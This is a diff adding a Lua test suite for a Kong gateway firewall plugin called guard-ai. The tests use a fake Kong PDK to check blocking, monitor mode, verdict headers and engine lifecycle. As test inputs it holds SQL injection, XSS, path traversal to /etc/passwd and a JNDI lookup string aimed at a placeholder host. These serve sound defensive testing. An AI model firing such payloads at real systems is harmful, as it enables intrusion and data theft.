@@ -1,0 +1,186 @@
+-- handler.lua against a recording stand-in for the Kong PDK and the real libguard.so: verdicts turn
+-- into Kong responses, headers and logs as documented, and engines follow the plugin's configs.
+local validator = require "localgw.schema"
+local plugin_schema = require "kong.plugins.guard-ai.schema"
+
+-- A minimal PDK that records what the handler asks of Kong.
+local function fake_kong(req)
+  local rec = { headers = {}, logs = {} }
+  local hdrs = req.headers or {}
+  local k = {
+    request = {
+      get_method = function() return req.method or "GET" end,
+      get_path = function() return req.path or "/" end,
+      get_raw_query = function() return req.query or "" end,
+      get_headers = function() return hdrs end,
+      get_header = function(name) return hdrs[name] end,
+      get_raw_body = function()
+        if req.body_on_disk then
+          return nil, "request body did not fit into client body buffer, consider raising 'client_body_buffer_size'"
+        end
+        return req.body
+      end,
+    },
+    client = {
+      get_forwarded_ip = function() return "203.0.113.7" end,
+      get_consumer = function() return nil end,
+      get_credential = function() return nil end,
+    },
+    router = { get_route = function() return { id = "route-1" } end },
+    response = {
+      exit = function(status, body, headers)
+        rec.exit = { status = status, body = body, headers = headers }
+        return "exited"
+      end,
+      error = function(status, message)
+        rec.error = { status = status, message = message }
+        return "errored"
+      end,
+      set_header = function(name, value) rec.headers[name] = value end,
+    },
+    ctx = { plugin = {} },
+    log = {},
+  }
+  for _, level in ipairs({ "debug", "info", "notice", "warn", "err", "crit" }) do
+    k.log[level] = function(...)
+      rec.logs[#rec.logs + 1] = level .. ": " .. table.concat({ ... })
+    end
+  end
+  return k, rec
+end
+
+local function conf(overrides)
+  local entity = assert(validator.validate_plugin(plugin_schema, { name = "guard-ai", config = overrides or {} }))
+  return validator.remove_nulls(entity.config)
+end
+
+local handler
+
+-- Kong's global `kong` is one long-lived table (handlers cache it at load); swap its contents per request.
+local function install(k)
+  for name in pairs(_G.kong) do
+    _G.kong[name] = nil
+  end
+  for name, v in pairs(k) do
+    _G.kong[name] = v
+  end
+end
+
+local function run(c, req)
+  local k, rec = fake_kong(req)
+  install(k)
+  rec.result = handler:access(c)
+  handler:header_filter(c)
+  return rec
+end
+
+describe("guard-ai handler", function()
+  setup(function()
+    _G.kong = {}
+    handler = require "kong.plugins.guard-ai.handler"
+  end)
+
+  it("declares PRIORITY and a three-part VERSION as Kong requires", function()
+    assert.is_number(handler.PRIORITY)
+    assert.matches("^%d+%.%d+%.%d+$", handler.VERSION)
+  end)
+
+  it("blocks a SQL injection in the query with the configured status and a JSON body", function()
+    local rec = run(conf(), { path = "/search", query = "q=1%27%20union%20select%20password%20from%20users--" })
+    assert.are.equal("exited", rec.result)
+    assert.are.equal(403, rec.exit.status)
+    assert.are.equal("Request blocked by Kong Guard AI", rec.exit.body.message)
+    assert.are.equal("sqli", rec.exit.body.category)
+    assert.matches("^%x+$", rec.exit.body.incident_id)
+    assert.are.equal(32, #rec.exit.body.incident_id)
+    assert.are.equal("block", rec.headers["X-Guard-Action"])
+    assert.are.equal(rec.exit.body.incident_id, rec.headers["X-Guard-Incident-Id"])
+    assert.matches("blocked request: incident=" .. rec.exit.body.incident_id, rec.logs[1], 1, true)
+  end)
+
+  it("blocks attacks in headers and JSON bodies", function()
+    local rec = run(conf({ block_status = 406 }), { headers = { ["user-agent"] = "Mozilla/5.0 ${jndi:ldap://x.example/a}" } })
+    assert.are.equal(406, rec.exit.status)
+    assert.are.equal("jndi", rec.exit.body.category)
+
+    local body = '{"comment":{"text":"<img src=x onerror=alert(1)>"}}'
+    rec = run(conf(), { method = "POST", body = body,
+                        headers = { ["content-type"] = "application/json", ["content-length"] = tostring(#body) } })
+    assert.are.equal(403, rec.exit.status)
+    assert.are.equal("xss", rec.exit.body.category)
+  end)
+
+  it("lets benign requests through with verdict headers", function()
+    local body = '{"name":"Siobhán O\'Brien","note":"select the blue plan; 1=1 in maths"}'
+    local rec = run(conf(), { method = "POST", path = "/api/users", query = "page=2", body = body,
+                              headers = { ["content-type"] = "application/json", ["content-length"] = tostring(#body) } })
+    assert.is_nil(rec.exit)
+    assert.are.equal("allow", rec.headers["X-Guard-Action"])
+    assert.are.equal(0, rec.headers["X-Guard-Score"])
+    assert.is_nil(rec.headers["X-Guard-Incident-Id"])
+  end)
+
+  it("only monitors in monitor mode", function()
+    local rec = run(conf({ mode = "monitor" }), { query = "file=..%2f..%2f..%2fetc%2fpasswd" })
+    assert.is_nil(rec.exit)
+    assert.are.equal("monitor", rec.headers["X-Guard-Action"])
+    assert.are.equal(32, #rec.headers["X-Guard-Incident-Id"])
+    assert.matches("monitored request", rec.logs[1], 1, true)
+  end)
+
+  it("reports a body nginx buffered to disk instead of passing it silently", function()
+    local rec = run(conf(), { method = "POST", body_on_disk = true, headers = { ["content-length"] = "9000000" } })
+    assert.is_nil(rec.exit)
+    assert.are.equal("partial", rec.headers["X-Guard-Body-Inspected"])
+    assert.matches("request body not inspected", rec.logs[1], 1, true)
+  end)
+
+  it("adds no headers when verdict_headers is off", function()
+    local rec = run(conf({ verdict_headers = false }), { query = "page=1" })
+    assert.is_nil(rec.exit)
+    assert.are.same({}, rec.headers)
+  end)
+
+  it("answers 500 and logs when libguard refuses a config schema.lua let through", function()
+    local c = conf()
+    c.mode = "sideways" -- as if schema.lua and the JSON Schema had drifted apart
+    local rec = run(c, { query = "a=1" })
+    assert.are.equal("errored", rec.result)
+    assert.are.equal(500, rec.error.status)
+    assert.matches("/mode: must be one of", rec.logs[1], 1, true)
+  end)
+
+  it("builds engines in configure(), reuses them, and frees those of configs that went away", function()
+    install((fake_kong({})))
+    handler:configure(nil) -- start from no engines at all
+    local engine = require "kong.plugins.guard-ai.engine"
+    local real_new = engine.new
+    local made, freed = 0, 0
+    engine.new = function(c)
+      local e, err = real_new(c)
+      if e then
+        made = made + 1
+        local real_free = e.free
+        e.free = function(self)
+          freed = freed + 1
+          return real_free(self)
+        end
+      end
+      return e, err
+    end
+    finally(function() engine.new = real_new end)
+
+    local a, b = conf(), conf({ mode = "monitor" })
+    handler:configure({ a, b })
+    assert.are.equal(2, made)
+    assert.is_nil(run(a, { query = "x=1" }).exit)
+    assert.are.equal(2, made) -- access reuses the engine built in configure
+    handler:configure({ b })
+    assert.are.equal(1, freed)
+    handler:configure(nil)
+    assert.are.equal(2, freed)
+    -- a conf that reaches access without configure (Kong < 3.5 or a race) gets an engine lazily
+    assert.are.equal(403, run(a, { query = "q=%3Cscript%3Ealert(1)%3C/script%3E" }).exit.status)
+    assert.are.equal(3, made)
+  end)
+end)
